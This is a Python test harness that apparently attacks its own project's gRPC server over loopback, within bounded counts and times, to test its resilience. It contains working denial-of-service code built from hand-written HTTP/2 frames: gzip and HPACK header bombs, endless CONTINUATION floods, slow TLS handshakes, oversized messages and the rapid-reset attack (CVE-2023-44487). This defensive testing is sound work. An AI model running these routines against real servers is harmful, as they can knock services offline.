"""What a hostile peer does to a gRPC server, each attack bounded in number and time, and only on the loopback interface.

`python hostile_peer.py NETWORK PORT ATTACK NUMBER SECONDS` runs one attack and prints one JSON object about it. Where gRPC
would keep the rules of HTTP/2, the frames are written by hand (RFC 9113; header fields as literals, RFC 7541 section 6.2).
"""

import gzip
import json
import socket
import ssl
import struct
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path
from typing import Any

from lianxin.federation.resumption import Frame
from lianxin.federation.services import encode_frame

DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
PIECE = 16_000
BOMB_BYTES = 40 * 2**20


class Http2:
    """A connection over mutual TLS, as `bank`, that writes whatever frames it is told to. `closed` when the server ended it."""

    def __init__(self, network: Path, port: int, bank: str = "bank-2", with_certificate: bool = True) -> None:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.set_alpn_protocols(["h2"])
        folder = network / bank
        context.load_verify_locations(folder / "ca.crt")
        if with_certificate:
            context.load_cert_chain(folder / "tls.crt", folder / "tls.key")
        plain = socket.create_connection(("127.0.0.1", port), timeout=10)
        self.bank, self.stream, self.resets = bank, -1, 0
        self._tls = context.wrap_socket(plain, server_hostname="localhost")
        self._lock = threading.Lock()
        self.closed = threading.Event()
        self.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, b""))
        threading.Thread(target=self._drain, daemon=True).start()

    def send(self, data: bytes) -> bool:
        """Send bytes; return whether the connection still took them."""
        try:
            with self._lock:
                self._tls.sendall(data)
        except (OSError, ValueError):
            self.closed.set()
        return not self.closed.is_set()

    def headers(self, *more: tuple[str, str], conversation: str = "", flags: int = 0x4) -> bytes:
        """Return the HEADERS frame that dials a conversation on a new stream."""
        self.stream += 2
        names = {":method": "POST", ":scheme": "https", ":path": "/lianxin.party.Matching/Converse"}
        names |= {":authority": "localhost", "te": "trailers", "content-type": "application/grpc"}
        asked = {"lianxin-run": "run-0001", "lianxin-conversation": conversation or f"matching/{self.bank}"}
        block = b"".join(literal(*field) for field in [*names.items(), *asked.items(), *more])
        return frame(HEADERS, flags, self.stream, block)

    def message(self, data: bytes, flag: int = 0) -> bytes:
        """Return DATA frames with one gRPC message on the newest stream."""
        whole = bytes([flag]) + struct.pack(">I", len(data)) + data
        return b"".join(frame(DATA, 0, self.stream, whole[at : at + PIECE]) for at in range(0, len(whole), PIECE))

    def close(self) -> None:
        """End the connection."""
        self.closed.set()
        self._tls.close()

    def _drain(self) -> None:
        rest = b""
        try:
            while piece := self._tls.recv(65536):
                rest += piece
                while len(rest) >= 9 and len(rest) >= (size := 9 + int.from_bytes(rest[:3], "big")):
                    self._hear(rest[3], rest[4], rest[9:size])
                    rest = rest[size:]
        except (OSError, ValueError):
            pass
        self.closed.set()

    def _hear(self, kind: int, flags: int, payload: bytes) -> None:
        self.resets += kind == RST_STREAM
        if kind == SETTINGS and not flags & 1:
            self.send(frame(SETTINGS, 1, 0, b""))
        elif kind == PING and not flags & 1:
            self.send(frame(PING, 1, 0, payload))


def frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """Return one HTTP/2 frame."""
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name: str, value: str, kind: int = 0x00) -> bytes:
    """Return a header field as a literal; `kind` 0x40 puts it into the dynamic table."""
    return bytes([kind]) + _string(name) + _string(value)


def _string(text: str) -> bytes:
    size, raw = len(text), text.encode()
    if size < 127:
        return bytes([size]) + raw
    size, out = size - 127, bytearray([127])
    while size > 127:
        out.append(size & 127 | 128)
        size >>= 7
    return bytes(out) + bytes([size]) + raw


# ---- the attacks: each returns what it did


def big_messages(network: Path, port: int, number: int, until: float) -> dict[str, Any]:
    """Messages of 40 MiB where 4 may be, one after the other."""
    import grpc

    folder = network / "bank-2"
    files = [(folder / name).read_bytes() for name in ("pinned/platform.crt", "tls.key", "tls.crt")]
    options = [("grpc.max_send_message_length", -1), ("grpc.max_receive_message_length", -1)]
    sent, data = 0, encode_frame(Frame(0, 0, bytes(BOMB_BYTES)))
    with grpc.secure_channel(f"127.0.0.1:{port}", grpc.ssl_channel_credentials(*files), options) as road:
        converse = road.stream_stream("/lianxin.party.Matching/Converse")
        while sent < number and time.monotonic() < until:
            names = (("lianxin-run", "run-0001"), ("lianxin-conversation", "matching/bank-2"))
            call = converse(iter([data]), metadata=names, timeout=2)
            with suppress(grpc.RpcError):
                next(iter(call), None)
            call.cancel()
            sent += 1
    return {"sent": sent}


def gzip_bombs(network: Path, port: int, number: int, until: float) -> dict[str, Any]:
    """Compressed messages of 40 kB that unfold to 40 MiB."""
    bomb, sent, peer = gzip.compress(encode_frame(Frame(0, 0, bytes(BOMB_BYTES)))), 0, Http2(network, port)
    while sent < number and time.monotonic() < until:
        if not peer.send(peer.headers(("grpc-encoding", "gzip")) + peer.message(bomb, flag=1)):
            peer = Http2(network, port)
        sent += 1
        time.sleep(0.1)
    time.sleep(0.5)
    return {"sent": sent}


def tiny_messages(network: Path, port: int, number: int, until: float) -> dict[str, Any]:
    """Messages of a few bytes, as fast as they go, on one stream until it is reset, then on the next."""
    sent, at, peer = 0, 0, Http2(network, port)
    peer.send(peer.headers())
    resets = 0
    while sent < number and time.monotonic() < until:
        tiny = b"".join(peer.message(encode_frame(Frame(n, 0, b"x"))) for n in range(at, at + 200))
        if not peer.send(tiny):
            peer, resets = Http2(network, port), 0
            peer.send(peer.headers())
            at = 0
        elif peer.resets > resets:
            resets, at = peer.resets, 0
            peer.send(peer.headers())
        else:
            at += 200
        sent += 200
        time.sleep(0.0005)
    time.sleep(0.5)
    return {"sent": sent}


def slow_handshakes(network: Path, port: int, number: int, until: float) -> dict[str, Any]:
    """Connections that begin a TLS handshake and go on with a byte now and then; `open` of them the server left open."""
    hello = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(500)
    sockets = []
    for _ in range(number):
        try:
            sockets.append(socket.create_connection(("127.0.0.1", port), timeout=1))
        except OSError:
            break
    for at in range(len(hello)):
        if time.monotonic() >= until:
            break
        for one in sockets:
            _drip(one, hello[at : at + 1])
        time.sleep(0.2)
    while any(_is_open(one) for one in sockets) and time.monotonic() < until + 2.0:
        time.sleep(0.1)
    return {"sent": len(sockets), "open": sum(_is_open(one) for one in sockets)}


def _drip(one: socket.socket, piece: bytes) -> None:
    try:
        one.sendall(piece)
    except OSError:
        return


def _is_open(one: socket.socket) -> bool:
    one.setblocking(False)
    try:
        return bool(one.recv(1))
    except BlockingIOError:
        return True
    except OSError:
        return False


def slow_streams(network: Path, port: int, number: int, until: float) -> dict[str, Any]:
    """Conversations that are opened and in which nothing is ever said."""
    peer, sent = Http2(network, port), 0
    while sent < number and time.monotonic() < until:
        peer.send(peer.headers(("lianxin-token", f"{sent:064x}"), ("lianxin-stream", "0")))
        sent += 1
        time.sleep(0.002)
    time.sleep(1.0)
    return {"sent": sent}


def header_bombs(network: Path, port: int, number: int, until: float) -> dict[str, Any]:
    """Header lists of 16 MB by a few kB: an entry of 4 kB in the dynamic table, named four thousand times."""
    peer, sent = Http2(network, port), 0
    while sent < number and time.monotonic() < until:
        first = peer.headers(flags=0x0)
        entry = literal("x-bomb", "b" * 3_900, kind=0x40)
        again = bytes([0x80 | 62]) * 4_000
        parts = first + frame(CONTINUATION, 0x0, peer.stream, entry) + frame(CONTINUATION, 0x4, peer.stream, again)
        if not peer.send(parts):
            peer = Http2(network, port)
        sent += 1
        time.sleep(0.05)
    time.sleep(0.3)
    return {"sent": sent}


def endless_headers(network: Path, port: int, number: int, until: float) -> dict[str, Any]:
    """One header list that never ends: CONTINUATION after CONTINUATION."""
    peer, sent = Http2(network, port), 0
    peer.send(peer.headers(flags=0x0))
    while sent < number and time.monotonic() < until:
        block = b"".join(literal(f"x-{sent}-{field}", "b" * 1_000) for field in range(15))
        if not peer.send(frame(CONTINUATION, 0x0, peer.stream, block)):
            peer = Http2(network, port)
            peer.send(peer.headers(flags=0x0))
        sent += 1
    return {"sent": sent}


def rapid_resets(network: Path, port: int, number: int, until: float) -> dict[str, Any]:
    """Streams that are opened and reset at once (CVE-2023-44487)."""
    peer, sent = Http2(network, port), 0
    while sent < number and time.monotonic() < until:
        burst = b""
        for _ in range(50):
            burst += peer.headers() + frame(RST_STREAM, 0, peer.stream, struct.pack(">I", 8))
        if not peer.send(burst):
            peer = Http2(network, port)
        sent += 50
        time.sleep(0.001)
    time.sleep(0.3)
    return {"sent": sent}


def strangers(network: Path, port: int, number: int, until: float) -> dict[str, Any]:
    """Everything asked of a door that knows nobody of this name: without a certificate, and with one that is not pinned."""
    sent = 0
    while sent < number and time.monotonic() < until:
        try:
            peer = Http2(network, port, "bank-3", with_certificate=sent % 2 == 0)
        except OSError:
            sent += 1
            continue
        for service in ("contracts", "matching", "learning"):
            peer.send(peer.headers(conversation=f"{service}/bank-3") + peer.message(bytes(10)))
        peer.closed.wait(0.02)
        peer.close()
        sent += 1
    return {"sent": sent}


ATTACKS: dict[str, Callable[[Path, int, int, float], dict[str, Any]]] = {
    one.__name__: one
    for one in (
        big_messages, gzip_bombs, tiny_messages, slow_handshakes, slow_streams, header_bombs, endless_headers, rapid_resets,
        strangers,
    )
}  # fmt: skip


def begin(network: Path, port: int, attack: str, number: int, seconds: float) -> "subprocess.Popen[str]":
    """Begin an attack in a process of its own."""
    words = [sys.executable, str(Path(__file__)), str(network), str(port), attack, str(number), str(seconds)]
    return subprocess.Popen(words, stdout=subprocess.PIPE, text=True)


if __name__ == "__main__":
    asked = ATTACKS[sys.argv[3]]
    done = asked(Path(sys.argv[1]), int(sys.argv[2]), int(sys.argv[4]), time.monotonic() + float(sys.argv[5]))
    print(json.dumps(done), flush=True)
